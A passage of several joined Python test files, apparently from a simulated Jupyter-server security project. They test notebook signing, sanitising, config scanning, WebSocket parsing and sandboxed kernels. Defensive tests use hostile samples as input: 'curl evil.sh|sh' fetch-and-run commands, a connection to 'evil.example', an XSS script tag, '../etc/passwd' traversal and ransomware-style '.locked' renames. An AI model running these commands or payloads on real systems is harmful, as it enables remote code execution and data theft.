        assert any("ename" in p for p in problems)

    def test_wrong_nbformat_version(self):
        doc = {"cells": [], "nbformat": 3}
        assert any("unsupported nbformat" in p for p in validate_notebook(doc))

    def test_strict_raises(self):
        with pytest.raises(ValidationError):
            validate_notebook({"cells": "nope"}, strict=True)

    def test_execution_count_type(self):
        doc = {"cells": [{"cell_type": "code", "source": "", "execution_count": "one", "outputs": []}]}
        assert any("execution_count" in p for p in validate_notebook(doc))


class TestTrust:
    def test_sign_then_check(self):
        store = NotebookSignatureStore(b"notary-key")
        nb = sample_notebook()
        store.sign(nb)
        assert store.check(nb)

    def test_unsigned_not_trusted(self):
        store = NotebookSignatureStore(b"notary-key")
        assert not store.check(sample_notebook())

    def test_tamper_breaks_trust(self):
        store = NotebookSignatureStore(b"notary-key")
        nb = sample_notebook()
        store.sign(nb)
        nb.code_cells[0].source += "\nimport os; os.system('curl evil.sh|sh')"
        assert not store.check(nb)

    def test_output_tamper_breaks_trust(self):
        store = NotebookSignatureStore(b"k")
        nb = sample_notebook()
        store.sign(nb)
        nb.code_cells[0].outputs.append({"output_type": "display_data", "data": {"text/html": "<script>"}, "metadata": {}})
        assert not store.check(nb)

    def test_unsign(self):
        store = NotebookSignatureStore(b"k")
        nb = sample_notebook()
        store.sign(nb)
        store.unsign(nb)
        assert not store.check(nb)

    def test_lru_eviction(self):
        store = NotebookSignatureStore(b"k", max_entries=2)
        nbs = []
        for i in range(3):
            nb = Notebook.new()
            nb.add_code(f"x = {i}")
            store.sign(nb)
            nbs.append(nb)
        assert not store.check(nbs[0])  # evicted
        assert store.check(nbs[2])
        assert len(store) == 2

    def test_different_key_different_store(self):
        nb = sample_notebook()
        s1 = NotebookSignatureStore(b"k1")
        s1.sign(nb)
        s2 = NotebookSignatureStore(b"k2")
        assert not s2.check(nb)


class TestSanitize:
    def test_strips_unsafe_mimetypes(self):
        nb = Notebook.new()
        cell = nb.add_code("display(HTML(...))")
        cell.outputs.append(
            {
                "output_type": "display_data",
                "data": {"text/html": "<script>alert(1)</script>", "text/plain": "safe"},
                "metadata": {},
            }
        )
        removed = sanitize_untrusted_outputs(nb)
        assert removed == 1
        data = nb.code_cells[0].outputs[0]["data"]
        assert "text/html" not in data
        assert data["text/plain"] == "safe"

    def test_error_outputs_untouched(self):
        nb = Notebook.new()
        cell = nb.add_code("1/0")
        cell.outputs.append(output_error("ZeroDivisionError", "division by zero", []))
        assert sanitize_untrusted_outputs(nb) == 0
