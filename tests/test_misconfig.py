"""Tests for the misconfiguration scanner."""

import pytest

from repro.crypto.passwords import hash_password
from repro.misconfig import MisconfigScanner, Severity, run_checks
from repro.server.config import ServerConfig, insecure_demo_config
from repro.util.ids import new_token


def failures(cfg):
    return {r.check_id for r in run_checks(cfg) if not r.passed}


class TestChecks:
    def test_default_config_mostly_clean(self):
        cfg = ServerConfig()
        ids = failures(cfg)
        # Default lacks only rate limiting and TLS is fine on loopback.
        assert "JPT-001" not in ids
        assert "JPT-002" not in ids
        assert "JPT-009" not in ids

    def test_insecure_demo_fails_hard(self):
        ids = failures(insecure_demo_config())
        for expected in ("JPT-001", "JPT-002", "JPT-006", "JPT-007", "JPT-008",
                         "JPT-009", "JPT-010", "JPT-012"):
            assert expected in ids

    def test_no_auth_is_critical(self):
        results = run_checks(insecure_demo_config())
        auth = next(r for r in results if r.check_id == "JPT-001")
        assert not auth.passed and auth.severity == Severity.CRITICAL
        assert auth.remediation

    def test_weak_token_flagged(self):
        assert "JPT-004" in failures(ServerConfig(token="admin"))
        assert "JPT-004" not in failures(ServerConfig(token=new_token()))

    def test_weak_password_rounds_flagged(self):
        weak = ServerConfig(password_hash=hash_password("pw", rounds=100))
        assert "JPT-005" in failures(weak)
        strong = ServerConfig(password_hash=hash_password("pw", rounds=20_000))
        assert "JPT-005" not in failures(strong)

    def test_tls_required_when_public(self):
        public_no_tls = ServerConfig(ip="0.0.0.0")
        assert "JPT-003" in failures(public_no_tls)
        public_tls = ServerConfig(ip="0.0.0.0", certfile="c", keyfile="k")
        assert "JPT-003" not in failures(public_tls)

    def test_vulnerable_version_names_cves(self):
        cfg = ServerConfig(version="6.4.0")
        result = next(r for r in run_checks(cfg) if r.check_id == "JPT-009")
        assert not result.passed
        assert "CVE-2022-29238" in result.finding

    def test_empty_session_key_flagged(self):
        assert "JPT-010" in failures(ServerConfig(session_key=b""))

    def test_terminals_public_flagged(self):
        assert "JPT-012" in failures(ServerConfig(ip="0.0.0.0", terminals_enabled=True))
        assert "JPT-012" not in failures(ServerConfig(ip="0.0.0.0", terminals_enabled=False))

    def test_unknown_signature_scheme_flagged(self):
        assert "JPT-013" in failures(ServerConfig(signature_scheme="rot13"))


class TestScanner:
    def test_grades_ordered_by_risk(self):
        scanner = MisconfigScanner()
        clean = scanner.scan(ServerConfig(rate_limit_window_seconds=60,
                                          rate_limit_max_requests=100))
        awful = scanner.scan(insecure_demo_config())
        assert clean.risk_score < awful.risk_score
        assert clean.grade in ("A", "B")
        assert awful.grade == "F"

    def test_fleet_scan_sorted_worst_first(self):
        scanner = MisconfigScanner()
        reports = scanner.scan_fleet([
            ServerConfig(server_name="good"),
            insecure_demo_config(),
        ])
        assert reports[0].risk_score >= reports[1].risk_score

    def test_hardening_delta_reduces_risk_to_low(self):
        scanner = MisconfigScanner()
        delta = scanner.hardening_delta(insecure_demo_config())
        assert delta["before"] > 40
        assert delta["after"] <= 5
        assert delta["reduction"] > 35

    def test_render_contains_findings_and_remediations(self):
        report = MisconfigScanner().scan(insecure_demo_config())
        text = report.render()
        assert "grade F" in text
        assert "JPT-001" in text
        assert "Remediations:" in text

    def test_failures_by_severity(self):
        report = MisconfigScanner().scan(insecure_demo_config())
        by_sev = report.failures_by_severity()
        assert by_sev.get("critical", 0) >= 2
