"""Incremental-parsing robustness for the server gateway and the hub
proxy path: requests dribbled byte-by-byte and WebSocket frames
fragmented across TCP segment boundaries must reassemble correctly at
every hop (client → proxy → backend → kernel and back)."""

import json

import pytest

from repro.attacks.scenario import build_scenario
from repro.hub import build_hub_scenario
from repro.wire.http import HttpRequest, parse_response
from repro.wire.websocket import Opcode, fragment_message


def _raw_roundtrip(client_host, server_host, port, raw: bytes, network,
                   *, chunk: int = 1, step: float = 0.02):
    """Send ``raw`` in ``chunk``-byte dribbles; collect parsed responses."""
    conn = client_host.connect(server_host, port)
    responses = []
    buf = b""

    def on_data(data):
        nonlocal buf
        buf += data
        while True:
            resp, rest = parse_response(buf)
            if resp is None:
                return
            responses.append(resp)
            buf = rest

    conn.on_data_client = on_data
    for i in range(0, len(raw), chunk):
        conn.send_to_server(raw[i:i + chunk])
        network.run(step)
    network.run(2.0)
    return responses


class TestGatewayDribbledHttp:
    def test_byte_at_a_time_request_direct(self):
        s = build_scenario(seed_data=False)
        req = HttpRequest("GET", "/api/status",
                          {"Host": "jupyter", "Authorization": f"token {s.token}"})
        responses = _raw_roundtrip(s.user_host, s.server_host,
                                   s.server.config.port, req.encode(), s.network)
        assert len(responses) == 1 and responses[0].status == 200

    def test_byte_at_a_time_request_through_proxy(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        req = HttpRequest("GET", "/user/user01/api/status",
                          {"Host": "hub", "Authorization": f"token {s.hub.users['user01'].token}"})
        responses = _raw_roundtrip(s.user_host, s.server_host,
                                   s.hub_config.port, req.encode(), s.network)
        assert len(responses) == 1 and responses[0].status == 200
        backend = s.spawner.active["user01"].server
        assert backend.access_log[-1].path == "/api/status"

    def test_dribbled_body_post_through_proxy(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        body = json.dumps({"type": "file", "content": "x" * 200}).encode()
        req = HttpRequest("PUT", "/user/user00/api/contents/dribble.txt",
                          {"Host": "hub",
                           "Authorization": f"token {s.hub.users['user00'].token}"},
                          body)
        responses = _raw_roundtrip(s.user_host, s.server_host, s.hub_config.port,
                                   req.encode(), s.network, chunk=7)
        assert responses and responses[0].status == 200
        assert s.server.fs.is_file("home/dribble.txt")

    def test_two_pipelined_requests_stay_ordered_through_proxy(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        token = s.hub.users["user00"].token
        raw = (HttpRequest("GET", "/user/user00/api/status",
                           {"Host": "hub", "Authorization": f"token {token}"}).encode()
               + HttpRequest("GET", "/user/user00/api/contents/",
                             {"Host": "hub", "Authorization": f"token {token}"}).encode())
        responses = _raw_roundtrip(s.user_host, s.server_host, s.hub_config.port,
                                   raw, s.network, chunk=11)
        assert [r.status for r in responses] == [200, 200]
        assert b"version" in responses[0].body       # /api/status first
        assert b"content" in responses[1].body       # then the listing


class TestFragmentedWebSocketFrames:
    def _connected_client(self, scenario, username):
        client = scenario.user_client(username=username)
        client.start_kernel()
        client.connect_channels()
        return client

    def test_fragmented_execute_request_through_proxy(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        client = self._connected_client(s, "user01")
        req = client.session.execute_request("21 * 2")
        payload = req.to_websocket_json().encode()
        frames = fragment_message(payload, 32, Opcode.TEXT, mask_key=b"\x0a\x0b\x0c\x0d")
        assert len(frames) > 3  # genuinely fragmented
        for frame in frames:
            client._conn.send_to_server(frame)
            s.run(0.05)
        s.run(30.0)
        reply = client.replies.get(req.msg_id)
        assert reply is not None and reply.content["status"] == "ok"

    def test_frames_crossing_tcp_segments_small_mss(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        s.network.mss = 48  # every WS frame spans multiple TCP segments
        client = self._connected_client(s, "user00")
        reply = client.execute("sum(range(100))")
        assert reply is not None and reply.content["status"] == "ok"
        result = [m for m in client.iopub if m.msg_type == "execute_result"]
        assert result and "4950" in result[-1].content["data"]["text/plain"]

    def test_fragmented_frames_and_small_mss_direct(self):
        s = build_scenario(seed_data=False)
        s.network.mss = 64
        client = s.user_client()
        client.start_kernel()
        client.connect_channels()
        req = client.session.execute_request("'x' * 500")
        payload = req.to_websocket_json().encode()
        for frame in fragment_message(payload, 50, Opcode.TEXT,
                                      mask_key=b"\x01\x02\x03\x04"):
            client._conn.send_to_server(frame)
            s.run(0.05)
        s.run(30.0)
        reply = client.replies.get(req.msg_id)
        assert reply is not None and reply.content["status"] == "ok"

    def test_monitor_reassembles_proxied_fragments(self):
        """The tap sees proxied traffic segment-by-segment; the monitor's
        own decoders must reassemble the same messages the kernel saw."""
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        s.network.mss = 96
        client = self._connected_client(s, "user00")
        reply = client.execute("1 + 1")
        assert reply is not None
        exec_msgs = [r for r in s.monitor.logs.jupyter
                     if r.msg_type == "execute_request"]
        assert exec_msgs and any("1 + 1" in r.code for r in exec_msgs)


class TestGatewayBufferCap:
    def test_request_beyond_cap_is_rejected_not_buffered(self):
        """Same withholding-peer guard the proxy has: a request that can
        never complete within the cap answers 413 and closes."""
        from repro.server import JupyterServer, ServerConfig, ServerGateway
        from repro.simnet import Network

        net = Network(default_latency=0.001)
        sh = net.add_host("jupyter", "10.0.0.1")
        ch = net.add_host("laptop", "10.0.0.2")
        server = JupyterServer(ServerConfig(ip="0.0.0.0", token="tok"), net, sh)
        gateway = ServerGateway(server)
        # Shrink the cap for the test via the class attribute.
        from repro.server.gateway import _GatewayConnection

        old = _GatewayConnection.MAX_BUFFER
        _GatewayConnection.MAX_BUFFER = 4096
        try:
            conn = ch.connect(sh, 8888)
            got = []
            conn.on_data_client = got.append
            conn.send_to_server(b"POST /api/contents/x HTTP/1.1\r\n"
                                b"Content-Length: 100000\r\n\r\n" + b"A" * 20000)
            net.run(2.0)
            raw = b"".join(got)
            assert raw.startswith(b"HTTP/1.1 413")
            assert not conn.open
            assert "request exceeds buffer cap" in gateway.protocol_errors
        finally:
            _GatewayConnection.MAX_BUFFER = old
