"""Tests for VFS, kernel world modules, runtime REPL, and lifecycle."""

import pytest

from repro.kernel import KernelManager, KernelRuntime, KernelWorld, MiniPython
from repro.kernel.manager import MultiKernelManager
from repro.messaging import Session
from repro.util.clock import SimClock
from repro.vfs import VfsError, VirtualFS


class TestVirtualFS:
    def test_write_read(self):
        fs = VirtualFS()
        fs.write("home/data.csv", b"a,b\n1,2")
        assert fs.read("home/data.csv") == b"a,b\n1,2"

    def test_read_missing(self):
        with pytest.raises(VfsError):
            VirtualFS().read("nope")

    def test_implicit_parent_dirs(self):
        fs = VirtualFS()
        fs.write("a/b/c.txt", b"x")
        assert fs.is_dir("a") and fs.is_dir("a/b")
        assert fs.listdir("a") == ["b"]

    def test_listdir_children_only(self):
        fs = VirtualFS()
        fs.write("a/one.txt", b"1")
        fs.write("a/sub/two.txt", b"2")
        assert fs.listdir("a") == ["one.txt", "sub"]

    def test_delete_file_and_empty_dir(self):
        fs = VirtualFS()
        fs.write("d/f.txt", b"x")
        fs.delete("d/f.txt")
        assert not fs.is_file("d/f.txt")
        fs.delete("d")
        assert not fs.is_dir("d")

    def test_delete_nonempty_dir_rejected(self):
        fs = VirtualFS()
        fs.write("d/f.txt", b"x")
        with pytest.raises(VfsError, match="not empty"):
            fs.delete("d")

    def test_rename_file(self):
        fs = VirtualFS()
        fs.write("a.txt", b"x")
        fs.rename("a.txt", "b.locked")
        assert fs.read("b.locked") == b"x"
        assert not fs.is_file("a.txt")

    def test_rename_refuses_overwrite(self):
        fs = VirtualFS()
        fs.write("a", b"1")
        fs.write("b", b"2")
        with pytest.raises(VfsError):
            fs.rename("a", "b")

    def test_rename_directory_moves_children(self):
        fs = VirtualFS()
        fs.write("proj/src/main.py", b"x")
        fs.rename("proj", "archive")
        assert fs.read("archive/src/main.py") == b"x"

    def test_traversal_rejected(self):
        fs = VirtualFS()
        with pytest.raises(VfsError, match="traversal"):
            fs.read("../etc/passwd")

    def test_mtime_tracks_clock(self):
        clock = SimClock()
        fs = VirtualFS(clock)
        fs.write("f", b"1")
        clock.advance(10)
        fs.write("f", b"2")
        assert fs.stat("f").modified == 10.0
        assert fs.stat("f").created == 0.0

    def test_readonly_file(self):
        fs = VirtualFS()
        fs.write("f", b"1")
        fs.set_writable("f", False)
        with pytest.raises(VfsError, match="read-only"):
            fs.write("f", b"2")

    def test_walk_and_totals(self):
        fs = VirtualFS()
        fs.write("a/1.txt", b"xx")
        fs.write("a/b/2.txt", b"yyy")
        fs.write("c.txt", b"z")
        assert list(fs.walk("a")) == ["a/1.txt", "a/b/2.txt"]
        assert fs.total_bytes() == 6
        assert fs.file_count() == 3


class TestWorldModules:
    def make_interp(self):
        world = KernelWorld()
        world.fs.write("home/data.csv", b"col\n1\n2\n")
        return MiniPython(world), world

    def test_open_read(self):
        interp, _ = self.make_interp()
        out = interp.execute("f = open('data.csv')\ntext = f.read()\nf.close()\ntext")
        assert out.result == "col\n1\n2\n"

    def test_open_write_creates_file(self):
        interp, world = self.make_interp()
        out = interp.execute("f = open('out.txt', 'w')\nf.write('hello')\nf.close()")
        assert out.status == "ok"
        assert world.fs.read("home/out.txt") == b"hello"

    def test_open_binary(self):
        interp, world = self.make_interp()
        out = interp.execute("f = open('b.bin', 'wb')\nf.write(bytes([0, 255]))\nf.close()")
        assert world.fs.read("home/b.bin") == b"\x00\xff"

    def test_open_missing_raises_catchable(self):
        interp, _ = self.make_interp()
        out = interp.execute("try:\n    open('missing.txt')\nexcept FileNotFoundError:\n    r = 'nf'\nr")
        assert out.result == "nf"

    def test_file_events_emitted(self):
        interp, world = self.make_interp()
        interp.execute("open('data.csv').read()")
        assert world.events_of("file_read")
        interp.execute("f = open('new.txt', 'w')\nf.write('x')\nf.close()")
        assert world.events_of("file_write")[-1].detail["path"] == "home/new.txt"

    def test_os_listdir_remove_rename(self):
        interp, world = self.make_interp()
        out = interp.execute("import os\nos.listdir('.')")
        assert out.result == ["data.csv"]
        interp.execute("import os\nos.rename('data.csv', 'data.csv.locked')")
        assert world.fs.is_file("home/data.csv.locked")
        interp.execute("import os\nos.remove('data.csv.locked')")
        assert world.fs.file_count() == 0
        assert world.events_of("file_rename") and world.events_of("file_delete")

    def test_os_system_denied_but_audited(self):
        interp, world = self.make_interp()
        out = interp.execute("import os\nos.system('curl evil | sh')")
        assert out.ename == "PermissionError"
        assert world.events_of("proc_spawn")[0].detail["command"] == "curl evil | sh"

    def test_os_path_helpers(self):
        interp, _ = self.make_interp()
        out = interp.execute("import os\n(os.path.join('a', 'b'), os.path.exists('data.csv'), os.path.splitext('x.ipynb'))")
        assert out.result == ("a/b", True, ("x", ".ipynb"))

    def test_socket_airgapped_fails(self):
        interp, _ = self.make_interp()
        out = interp.execute(
            "import socket\ns = socket.socket()\n"
            "try:\n    s.connect(('evil.example', 443))\nexcept ConnectionError:\n    r = 'blocked'\nr"
        )
        assert out.result == "blocked"

    def test_socket_connected_world(self):
        sent = []

        class Chan:
            def send(self, data):
                sent.append(data)

            def on_receive(self, cb):
                cb(b"pong")

            def close(self):
                pass

        world = KernelWorld(connect=lambda host, port: Chan())
        interp = MiniPython(world)
        out = interp.execute(
            "import socket\ns = socket.socket()\ns.connect(('pool.example', 3333))\n"
            "s.send(b'subscribe')\ns.recv()"
        )
        assert out.result == b"pong"
        assert sent == [b"subscribe"]
        kinds = [e.kind for e in world.events]
        assert "net_connect" in kinds and "net_send" in kinds and "net_recv" in kinds

    def test_hashlib_real_digests(self):
        import hashlib

        interp, _ = self.make_interp()
        out = interp.execute("import hashlib\nhashlib.sha256(b'abc').hexdigest()")
        assert out.result == hashlib.sha256(b"abc").hexdigest()

    def test_time_uses_sim_clock(self):
        world = KernelWorld(clock=SimClock(123.0))
        interp = MiniPython(world)
        assert interp.execute("import time\ntime.time()").result == 123.0

    def test_random_deterministic(self):
        a = MiniPython(KernelWorld()).execute("import random\nrandom.randint(0, 10**9)").result
        b = MiniPython(KernelWorld()).execute("import random\nrandom.randint(0, 10**9)").result
        assert a == b

    def test_base64_json(self):
        interp, _ = self.make_interp()
        out = interp.execute("import base64, json\nbase64.b64encode(json.dumps({'a': 1}).encode())")
        assert out.result == b"eyJhIjogMX0="


def make_runtime(**kw) -> KernelRuntime:
    return KernelRuntime(KernelWorld(), key=b"kernel-key", **kw)


class TestKernelRuntime:
    def test_kernel_info(self):
        k = make_runtime()
        client = Session(b"kernel-key")
        msgs = k.handle(client.kernel_info_request())
        assert msgs[0].msg_type == "kernel_info_reply"
        assert msgs[0].content["status"] == "ok"

    def test_execute_iopub_sequence(self):
        k = make_runtime()
        client = Session(b"kernel-key")
        msgs = k.handle(client.execute_request("print('hi')\n40 + 2"))
        types = [m.msg_type for m in msgs]
        assert types[0] == "execute_reply"
        assert types[1:] == ["status", "execute_input", "stream", "execute_result", "status"]
        assert msgs[1].content["execution_state"] == "busy"
        assert msgs[-1].content["execution_state"] == "idle"
        assert msgs[3].content["text"] == "hi\n"
        assert msgs[4].content["data"]["text/plain"] == "42"

    def test_parent_headers_link_replies(self):
        k = make_runtime()
        client = Session(b"kernel-key")
        req = client.execute_request("1")
        msgs = k.handle(req)
        assert all(m.parent_header.msg_id == req.msg_id for m in msgs)

    def test_execution_count_increments(self):
        k = make_runtime()
        client = Session(b"kernel-key")
        k.handle(client.execute_request("1"))
        msgs = k.handle(client.execute_request("2"))
        assert msgs[0].content["execution_count"] == 2

    def test_silent_execution(self):
        k = make_runtime()
        client = Session(b"kernel-key")
        msgs = k.handle(client.msg("execute_request", {"code": "5", "silent": True}))
        types = [m.msg_type for m in msgs]
        assert "execute_input" not in types and "execute_result" not in types
        assert k.execution_count == 0

    def test_error_path(self):
        k = make_runtime()
        client = Session(b"kernel-key")
        msgs = k.handle(client.execute_request("1 / 0"))
        assert msgs[0].content["status"] == "error"
        assert msgs[0].content["ename"] == "ZeroDivisionError"
        assert any(m.msg_type == "error" for m in msgs)

    def test_unknown_message_type(self):
        k = make_runtime()
        client = Session(b"kernel-key")
        msgs = k.handle(client.msg("bogus_request", {}))
        assert msgs[0].content["status"] == "error"

    def test_shutdown(self):
        k = make_runtime()
        client = Session(b"kernel-key")
        msgs = k.handle(client.shutdown_request())
        assert msgs[0].msg_type == "shutdown_reply"
        assert k.state == "dead"
        with pytest.raises(RuntimeError):
            k.heartbeat(b"ping")

    def test_heartbeat_echo(self):
        assert make_runtime().heartbeat(b"xyz") == b"xyz"

    def test_history_and_accounting(self):
        k = make_runtime()
        client = Session(b"kernel-key")
        k.handle(client.execute_request("x = sum(range(10000))"))
        k.handle(client.execute_request("1/0"))
        assert len(k.history) == 2
        assert k.history[0].status == "ok"
        assert k.history[1].ename == "ZeroDivisionError"
        assert k.total_cpu_seconds() > 0

    def test_iopub_listener(self):
        k = make_runtime()
        seen = []
        k.iopub_listeners.append(lambda m: seen.append(m.msg_type))
        client = Session(b"kernel-key")
        k.handle(client.execute_request("1"))
        assert "status" in seen and "execute_result" in seen


class TestKernelManager:
    def test_start_and_alive(self):
        km = KernelManager(KernelWorld)
        km.start()
        assert km.is_alive()

    def test_double_start_rejected(self):
        from repro.util.errors import ReproError

        km = KernelManager(KernelWorld)
        km.start()
        with pytest.raises(ReproError):
            km.start()

    def test_restart_clears_state_keeps_world(self):
        km = KernelManager(KernelWorld)
        k1 = km.start()
        client = Session(b"")
        k1.handle(client.execute_request("secret = 'model-weights'"))
        k1.world.fs.write("home/weights.bin", b"w" * 100)
        k2 = km.restart()
        assert k2 is not k1
        out = k2.handle(client.execute_request("secret"))
        assert out[0].content["status"] == "error"  # interpreter state gone
        assert k2.world.fs.is_file("home/weights.bin")  # files survive
        assert km.restarts == 1

    def test_shutdown_kills_heartbeat(self):
        km = KernelManager(KernelWorld)
        km.start()
        km.shutdown()
        assert not km.is_alive()


class TestMultiKernelManager:
    def test_start_list_get_shutdown(self):
        mkm = MultiKernelManager(KernelWorld)
        k1 = mkm.start_kernel()
        k2 = mkm.start_kernel()
        assert len(mkm.list_ids()) == 2
        assert mkm.alive_count() == 2
        assert mkm.get(k1.kernel_id) is None or True  # ids differ from manager ids
        some_id = mkm.list_ids()[0]
        assert mkm.shutdown_kernel(some_id)
        assert not mkm.shutdown_kernel("nonexistent")
        assert len(mkm.list_ids()) == 1
