"""Tests for the RFC 6455 WebSocket codec."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.util.errors import ProtocolError
from repro.wire.websocket import (
    Frame,
    Opcode,
    WebSocketDecoder,
    accept_key,
    build_handshake_request,
    build_handshake_response,
    decode_frame,
    encode_close,
    encode_frame,
    encode_ping,
    encode_text,
    fragment_message,
)


class TestHandshake:
    def test_rfc_accept_key_vector(self):
        # RFC 6455 §1.3 worked example.
        assert accept_key("dGhlIHNhbXBsZSBub25jZQ==") == "s3pPLMBiTxaQ9kYGzzhZRbK+xOo="

    def test_handshake_request_headers(self):
        req = build_handshake_request("hub:8888", "/api/kernels/k/channels", "KEY", token="tok")
        assert req.is_websocket_upgrade()
        assert req.header("authorization") == "token tok"

    def test_handshake_response_matches_key(self):
        resp = build_handshake_response("dGhlIHNhbXBsZSBub25jZQ==")
        assert resp.status == 101
        assert resp.header("sec-websocket-accept") == "s3pPLMBiTxaQ9kYGzzhZRbK+xOo="


class TestFrameCodec:
    def test_known_unmasked_text(self):
        # "Hello" unmasked: 81 05 48 65 6c 6c 6f (RFC 6455 §5.7).
        assert encode_text("Hello") == bytes.fromhex("810548656c6c6f")

    def test_known_masked_text(self):
        # RFC 6455 §5.7 masked "Hello" with key 37 fa 21 3d.
        raw = bytes.fromhex("818537fa213d7f9f4d5158")
        frame, rest = decode_frame(raw)
        assert frame.payload == b"Hello"
        assert frame.masked
        assert rest == b""

    def test_mask_roundtrip(self):
        raw = encode_text("secret", mask_key=b"\x01\x02\x03\x04")
        frame, _ = decode_frame(raw)
        assert frame.payload == b"secret"

    def test_medium_length_16bit(self):
        payload = b"x" * 300
        raw = encode_frame(Frame(True, Opcode.BINARY, payload))
        assert raw[1] == 126
        frame, rest = decode_frame(raw)
        assert frame.payload == payload and rest == b""

    def test_long_length_64bit(self):
        payload = b"y" * 70000
        raw = encode_frame(Frame(True, Opcode.BINARY, payload))
        assert raw[1] == 127
        frame, _ = decode_frame(raw)
        assert len(frame.payload) == 70000

    def test_incomplete_header(self):
        frame, rest = decode_frame(b"\x81")
        assert frame is None and rest == b"\x81"

    def test_incomplete_payload(self):
        raw = encode_text("Hello")[:-2]
        frame, rest = decode_frame(raw)
        assert frame is None

    def test_control_frame_size_limit(self):
        with pytest.raises(ProtocolError):
            encode_frame(Frame(True, Opcode.PING, b"z" * 126))

    def test_fragmented_control_rejected(self):
        with pytest.raises(ProtocolError):
            encode_frame(Frame(False, Opcode.PING, b""))

    def test_rsv_bits_rejected(self):
        with pytest.raises(ProtocolError):
            decode_frame(b"\xc1\x00")

    def test_unknown_opcode_rejected(self):
        with pytest.raises(ProtocolError):
            decode_frame(b"\x83\x00")

    def test_close_code(self):
        frame, _ = decode_frame(encode_close(1001, "going away"))
        assert frame.close_code == 1001

    def test_64bit_length_msb_rejected_on_decode(self):
        # RFC 6455 §5.2: the most significant bit of the 64-bit payload
        # length MUST be 0.
        import struct

        raw = b"\x81\x7f" + struct.pack(">Q", 1 << 63) + b"xx"
        with pytest.raises(ProtocolError, match="MSB"):
            decode_frame(raw)
        raw = b"\x81\x7f" + struct.pack(">Q", (1 << 64) - 1)
        with pytest.raises(ProtocolError, match="MSB"):
            decode_frame(raw)

    def test_64bit_length_msb_rejected_incrementally(self):
        import struct

        dec = WebSocketDecoder()
        dec.feed(encode_text("ok"))
        with pytest.raises(ProtocolError, match="MSB"):
            dec.feed(b"\x81\x7f" + struct.pack(">Q", 1 << 63))
        assert dec.messages() == [(Opcode.TEXT, b"ok")]

    def test_64bit_length_msb_rejected_on_encode(self):
        # len() cannot return >= 2**63 in CPython, so the guard is
        # exercised through the header builder encode_frame uses.
        from repro.wire.websocket import _frame_header

        assert _frame_header(0x82, False, (1 << 63) - 1)[1] == 127
        with pytest.raises(ProtocolError, match="63-bit"):
            _frame_header(0x82, False, 1 << 63)
        with pytest.raises(ProtocolError, match="63-bit"):
            _frame_header(0x82, True, (1 << 64) - 1)

    def test_63bit_boundary_header_accepted(self):
        # Exactly 2^63 - 1 is legal on the wire; the decoder must ask for
        # more bytes rather than raise.
        import struct

        raw = b"\x81\x7f" + struct.pack(">Q", (1 << 63) - 1)
        frame, rest = decode_frame(raw)
        assert frame is None and rest == raw

    @given(st.binary(max_size=2000), st.booleans())
    def test_property_roundtrip(self, payload, mask):
        key = b"\xde\xad\xbe\xef" if mask else None
        raw = encode_frame(Frame(True, Opcode.BINARY, payload), mask_key=key)
        frame, rest = decode_frame(raw)
        assert frame.payload == payload
        assert rest == b""

    @given(st.binary(max_size=1000), st.integers(min_value=1, max_value=64))
    def test_property_fragmentation_reassembly(self, payload, chunk):
        dec = WebSocketDecoder()
        for raw in fragment_message(payload, chunk):
            dec.feed(raw)
        msgs = dec.messages()
        assert msgs == [(Opcode.BINARY, payload)]


class TestDecoder:
    def test_byte_at_a_time(self):
        dec = WebSocketDecoder()
        raw = encode_text("Hello") + encode_ping(b"hb") + encode_text("World")
        for i in range(len(raw)):
            dec.feed(raw[i : i + 1])
        msgs = dec.messages()
        assert msgs == [
            (Opcode.TEXT, b"Hello"),
            (Opcode.PING, b"hb"),
            (Opcode.TEXT, b"World"),
        ]
        assert dec.bytes_consumed == len(raw)

    def test_interleaved_control_during_fragmentation(self):
        dec = WebSocketDecoder()
        frags = fragment_message(b"abcdef", 2)
        dec.feed(frags[0])
        dec.feed(encode_ping(b"p"))  # control frames may interleave
        for f in frags[1:]:
            dec.feed(f)
        msgs = dec.messages()
        assert (Opcode.PING, b"p") in msgs
        assert (Opcode.BINARY, b"abcdef") in msgs

    def test_unexpected_continuation_raises(self):
        dec = WebSocketDecoder()
        with pytest.raises(ProtocolError):
            dec.feed(encode_frame(Frame(True, Opcode.CONTINUATION, b"x")))

    def test_new_message_mid_fragment_raises(self):
        dec = WebSocketDecoder()
        dec.feed(encode_frame(Frame(False, Opcode.TEXT, b"a")))
        with pytest.raises(ProtocolError):
            dec.feed(encode_frame(Frame(True, Opcode.TEXT, b"b")))

    def test_message_size_cap(self):
        dec = WebSocketDecoder(max_message_size=10)
        with pytest.raises(ProtocolError):
            dec.feed(encode_frame(Frame(True, Opcode.BINARY, b"z" * 11)))

    def test_fragment_message_empty_payload(self):
        frames = fragment_message(b"", 10)
        assert len(frames) == 1
        dec = WebSocketDecoder()
        dec.feed(frames[0])
        assert dec.messages() == [(Opcode.BINARY, b"")]

    def test_fragment_chunk_validation(self):
        with pytest.raises(ValueError):
            fragment_message(b"x", 0)

    def test_oversize_declared_frame_rejected_at_header(self):
        """A peer declaring a frame beyond max_message_size must be
        rejected when the header arrives — not buffered toward a payload
        that never completes (withholding-peer DoS)."""
        import struct

        dec = WebSocketDecoder(max_message_size=1024)
        with pytest.raises(ProtocolError, match="exceeds cap"):
            dec.feed(b"\x81\x7e" + struct.pack(">H", 2048))
        dec = WebSocketDecoder(max_message_size=1024)
        with pytest.raises(ProtocolError, match="exceeds cap"):
            dec.feed(b"\x81\x7f" + struct.pack(">Q", 1 << 40) + b"partial")

    def test_frame_retention_is_opt_out(self):
        """Long-lived consumers that only drain messages() must be able
        to turn off raw-frame history (it otherwise grows forever)."""
        raw = encode_text("one") + encode_text("two")
        keeper = WebSocketDecoder()
        keeper.feed(raw)
        assert len(keeper.frames()) == 2
        dropper = WebSocketDecoder(collect_frames=False)
        dropper.feed(raw)
        assert dropper.frames() == []
        assert [m for _, m in dropper.messages()] == [b"one", b"two"]
