"""Unit and property tests for entropy utilities — the ransomware signal."""

import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.util.entropy import (
    byte_histogram,
    chi_square_uniform,
    looks_encrypted,
    shannon_entropy,
)


class TestShannonEntropy:
    def test_empty_is_zero(self):
        assert shannon_entropy(b"") == 0.0

    def test_constant_is_zero(self):
